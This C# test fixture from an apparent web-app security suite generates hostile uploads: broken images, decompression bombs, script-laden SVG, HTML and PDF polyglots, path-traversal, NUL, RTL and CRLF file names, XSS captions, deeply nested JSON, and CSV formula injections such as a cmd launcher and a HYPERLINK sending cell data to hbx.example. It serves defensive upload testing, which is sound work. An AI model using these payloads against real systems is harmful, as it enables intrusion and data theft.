using System.Text;
using HepBuilder.Tests.Pages.Library;
using SkiaSharp;

namespace HepBuilder.Tests.Security.Hostile;

/// <summary>One file part of an upload: the name and type the client claims, and the bytes.</summary>
public sealed record FilePart(string Field, string FileName, string ContentType, byte[] Data);

/// <summary>A hostile upload: one or more file parts, described for the report.</summary>
/// <remarks><paramref name="Fields"/> replaces form fields of the page (a caption) for the case.</remarks>
public sealed record HostileUpload(string Label, IReadOnlyList<FilePart> Parts, IReadOnlyDictionary<string, string>? Fields = null)
{
    public override string ToString() => Label;
}

/// <summary>
/// Malformed and hostile files, generated here: broken and lying images, a decompression bomb, scripts dressed as
/// pictures, oversized bodies, hostile file names, several files where one is expected.
/// </summary>
public static class HostileFiles
{
    private static byte[] Png(int w = 120, int h = 80) => LibraryKit.Image(w, h, SKEncodedImageFormat.Png);

    private static byte[] Jpeg(int w = 120, int h = 80) => LibraryKit.Image(w, h, SKEncodedImageFormat.Jpeg);

    private static byte[] Utf8(string s) => Encoding.UTF8.GetBytes(s);

    /// <summary>The bytes as if read from a corrupted disk: a fixed pseudo-random sequence.</summary>
    private static byte[] Garbage(int length, int seed)
    {
        var random = new Random(seed);
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }

    public static IReadOnlyList<HostileUpload> Images(string field)
    {
        var png = Png();
        var jpeg = Jpeg();
        HostileUpload One(string label, string name, string type, byte[] data) => new(label, [new FilePart(field, name, type, data)]);
        return
        [
            One("zero bytes", "empty.png", "image/png", []),
            One("truncated PNG", "half.png", "image/png", png[..(png.Length / 2)]),
            One("PNG cut after the header", "header.png", "image/png", png[..33]),
            One("truncated JPEG", "half.jpg", "image/jpeg", jpeg[..(jpeg.Length / 2)]),
            One("PNG signature then garbage", "garbage.png", "image/png", [.. png[..8], .. Garbage(4000, 1)]),
            One("JPEG markers then garbage", "garbage.jpg", "image/jpeg", [0xFF, 0xD8, 0xFF, 0xE0, .. Garbage(4000, 2)]),
            One("garbage", "noise.png", "image/png", Garbage(2000, 3)),
            One("decompression bomb 100,000 × 100,000", "bomb.png", "image/png", LibraryKit.PngClaiming(100_000, 100_000)),
            One("decompression bomb 7,000 × 7,000", "bomb2.png", "image/png", LibraryKit.PngClaiming(7_000, 7_000)),
            One("dimension 0", "zero.png", "image/png", LibraryKit.PngClaiming(0, 10)),
            One("negative dimension", "negative.png", "image/png", LibraryKit.PngClaiming(-5, 10)),
            One("SVG with script", "logo.svg", "image/svg+xml",
                Utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('hbx')\"><script>alert('hbx')</script><rect width=\"10\" height=\"10\"/></svg>")),
            One("SVG named .png", "logo.png", "image/png", Utf8("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert('hbx')</script></svg>")),
            One("HTML named .png", "evil.png", "image/png", Utf8("<html><body><script>alert('hbx')</script></body></html>")),
            One("PNG with HTML after IEND (polyglot)", "poly.png", "image/png", [.. png, .. Utf8("<html><script>alert('hbx')</script></html>")]),
            One("JPEG with script in a comment (polyglot)", "poly.jpg", "image/jpeg",
                [.. jpeg[..2], 0xFF, 0xFE, 0x00, 0x2C, .. Utf8("*/alert('hbx')/*<script>alert('hbx')</script>"), .. jpeg[2..]]),
            One("GIF/JavaScript polyglot", "poly.gif", "image/gif", Utf8("GIF89a/*\x01\x00\x01\x00\x00\xff\xff*/=1;alert('hbx');")),
            One("PDF named .png", "doc.png", "image/png", Utf8("%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF")),
            One("valid PNG declared text/html", "page.html", "text/html", png),
            One("valid PNG named .exe", "setup.exe", "application/x-msdownload", png),
            One("valid JPEG declared image/png", "photo.png", "image/png", jpeg),
            One("valid PNG with no content type", "x.png", "", png),
            One("WebP", "photo.webp", "image/webp", LibraryKit.Image(90, 60, SKEncodedImageFormat.Webp)),
            One("10.5 MB of zeros after a PNG header", "huge.png", "image/png", [.. png[..8], .. new byte[10_500_000]]),
            One("5 MB + 1 byte", "limit.png", "image/png", [.. png, .. new byte[5 * 1024 * 1024 + 1 - png.Length]]),
            One("1 MB + 1 byte", "limit1.png", "image/png", [.. png, .. new byte[1024 * 1024 + 1 - png.Length]]),
            One("file name ../../etc/passwd", "../../etc/passwd", "image/png", png),
            One("file name with backslashes", "C:\\Windows\\..\\..\\system32\\x.png", "image/png", png),
            One("file name with NUL", "photo\0.exe.png", "image/png", png),
            One("file name of 5,000 characters", new string('a', 5000) + ".png", "image/png", png),
            One("file name with RTL override", "photo\u202Egnp.exe", "image/png", png),
            One("file name with markup", "<img src=x onerror=alert('hbx')>.png", "image/png", png),
            One("file name with quotes and CRLF", "a\"; name=\"x\r\nContent-Type: text/html.png", "image/png", png),
            One("empty file name", "", "image/png", png),
            new("two files, valid then HTML", [new FilePart(field, "a.png", "image/png", png), new FilePart(field, "b.png", "image/png", Utf8("<script>alert('hbx')</script>"))]),
            new("two files, HTML then valid", [new FilePart(field, "b.png", "image/png", Utf8("<script>alert('hbx')</script>")), new FilePart(field, "a.png", "image/png", png)]),
            new("two valid files", [new FilePart(field, "a.png", "image/png", png), new FilePart(field, "b.jpg", "image/jpeg", jpeg)]),
            new("the file under another field name", [new FilePart(field + "X", "a.png", "image/png", png)]),
        ];
    }

    /// <summary>A valid photo with a hostile caption: the caption is text the pictures page and the handout show.</summary>
    public static IReadOnlyList<HostileUpload> Captions()
    {
        var png = Png();
        string[] captions = ["Ada\0Smith", "<img src=x onerror=alert('hbx')>", "\u202Egnp.exe", new string('c', 81), "\"><script>alert('hbx')</script>"];
        return captions
            .Select(c => new HostileUpload($"caption {c[..Math.Min(c.Length, 30)].Replace("\0", "\\0")}", [new FilePart("Photo", "c.png", "image/png", png)],
                new Dictionary<string, string> { ["Caption"] = c }))
            .ToList();
    }

    /// <summary>Library import files built from the clinic's own export, then broken or poisoned.</summary>
    public static IReadOnlyList<HostileUpload> Imports(string json, string csv)
    {
        HostileUpload One(string label, string name, string type, byte[] data) => new(label, [new FilePart("File", name, type, data)]);
        var lines = csv.Replace("\r\n", "\n").TrimEnd('\n').Split('\n');
        string Csv(string cell) => lines[0] + "\n" + cell + lines[1][lines[1].IndexOf(',')..] + "\n";
        var uploads = new List<HostileUpload>
        {
            One("zero bytes", "empty.json", "application/json", []),
            One("JSON: not JSON", "x.json", "application/json", Utf8("{ this is not json")),
            One("JSON: null", "x.json", "application/json", Utf8("null")),
            One("JSON: empty array", "x.json", "application/json", Utf8("[]")),
            One("JSON: empty object", "x.json", "application/json", Utf8("{}")),
            One("JSON: a string", "x.json", "application/json", Utf8("\"exercises\"")),
            One("JSON: 100,000 nested arrays", "deep.json", "application/json", Utf8(new string('[', 100_000) + new string(']', 100_000))),
            One("JSON: 10,000 nested objects", "deep.json", "application/json", Utf8(string.Concat(Enumerable.Repeat("{\"a\":", 10_000)) + "1" + new string('}', 10_000))),
            One("JSON: invalid UTF-8", "x.json", "application/json", [.. Utf8("[{\"name\":\""), 0xED, 0xA0, 0x80, 0xFF, .. Utf8("\"}]")]),
            One("JSON: NUL in a name", "x.json", "application/json", Utf8(json.Replace("\"Bridge", "\"Bri\\u0000dge"))),
            One("JSON: lone surrogate escape", "x.json", "application/json", Utf8(json.Replace("\"Bridge", "\"\\ud800Bridge"))),
            One("JSON: BOM", "x.json", "application/json", [0xEF, 0xBB, 0xBF, .. Utf8(json)]),
            One("CSV: 10 MB of garbage lines", "big.csv", "text/csv", Utf8(string.Concat(Enumerable.Repeat("a,b,c,=1+1,\"x\n", 700_000)))),
            One("CSV: only a header", "x.csv", "text/csv", Utf8(lines[0] + "\n")),
            One("CSV: unterminated quote", "x.csv", "text/csv", Utf8(lines[0] + "\n\"Bridge,1,2\n")),
            One("CSV: NUL and control characters", "x.csv", "text/csv", Utf8(Csv("Bri\0dge\u0007\u001B[31m"))),
            One("CSV: markup in a name", "x.csv", "text/csv", Utf8(Csv("\"<img src=x onerror=alert('hbx')>\""))),
            One("CSV: binary", "x.csv", "text/csv", Garbage(5000, 4)),
            One("a PNG named .json", "x.json", "application/json", Png()),
            One("file name with markup", "<img src=x onerror=alert('hbx')>.json", "application/json", Utf8(json)),
            One("file name with NUL and traversal", "../../x\0.json", "application/json", Utf8(json)),
            One("file name with RTL override", "lib\u202Enosj.exe", "application/json", Utf8(json)),
            new("two files", [new FilePart("File", "a.json", "application/json", Utf8(json)), new FilePart("File", "b.csv", "text/csv", Utf8("x"))]),
        };
        // Formula injection in each text-like cell position of the name: stored as text, exported with a guard.
        foreach (var formula in Formulas) uploads.Add(One($"CSV: formula {formula}", "formula.csv", "text/csv", Utf8(Csv(Quote(formula)))));
        // Wrong types in the JSON: every string value in turn becomes a number, an array, an object and null.
        foreach (var (label, replacement) in new[] { ("number", "12345"), ("array", "[1,2]"), ("object", "{\"a\":1}"), ("null", "null"), ("true", "true"), ("huge number", "1e400") })
        {
            uploads.Add(One($"JSON: name is {label}", "x.json", "application/json", Utf8(ReplaceFirstString(json, "name", replacement))));
            uploads.Add(One($"JSON: steps is {label}", "x.json", "application/json", Utf8(ReplaceFirstString(json, "steps", replacement))));
        }
        return uploads;
    }

    /// <summary>Spreadsheet formulas that run when a CSV is opened (CWE-1236).</summary>
    public static readonly string[] Formulas =
    [
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://hbx.example/?\"&A1,\"Click\")", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1",
    ];

    private static string Quote(string cell) => "\"" + cell.Replace("\"", "\"\"") + "\"";

    /// <summary>The JSON with the first value of <paramref name="property"/> (case-insensitive) replaced by raw JSON.</summary>
    private static string ReplaceFirstString(string json, string property, string replacement)
    {
        var m = System.Text.RegularExpressions.Regex.Match(json, "\"" + property + "\"\\s*:\\s*(\"(?:[^\"\\\\]|\\\\.)*\"|\\[[^\\]]*\\])",
            System.Text.RegularExpressions.RegexOptions.IgnoreCase);
        return m.Success ? json[..m.Groups[1].Index] + replacement + json[(m.Groups[1].Index + m.Groups[1].Length)..] : json;
    }

    /// <summary>A multipart body written byte by byte, so file names can hold what HttpClient would refuse (NUL, CR LF).</summary>
    public static HttpContent Multipart(IEnumerable<KeyValuePair<string, string?>> fields, IEnumerable<FilePart> files)
    {
        const string boundary = "----hostile-upload-boundary-7d1f";
        var body = new MemoryStream();
        void Write(string s) => body.Write(Encoding.UTF8.GetBytes(s));
        foreach (var (name, value) in fields.Where(f => f.Value is not null))
        {
            Write($"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n");
        }
        foreach (var f in files)
        {
            Write($"--{boundary}\r\nContent-Disposition: form-data; name=\"{f.Field}\"; filename=\"{f.FileName}\"\r\n");
            if (f.ContentType.Length > 0) Write($"Content-Type: {f.ContentType}\r\n");
            Write("\r\n");
            body.Write(f.Data);
            Write("\r\n");
        }
        Write($"--{boundary}--\r\n");
        var content = new ByteArrayContent(body.ToArray());
        content.Headers.TryAddWithoutValidation("Content-Type", $"multipart/form-data; boundary={boundary}");
        return content;
    }
}
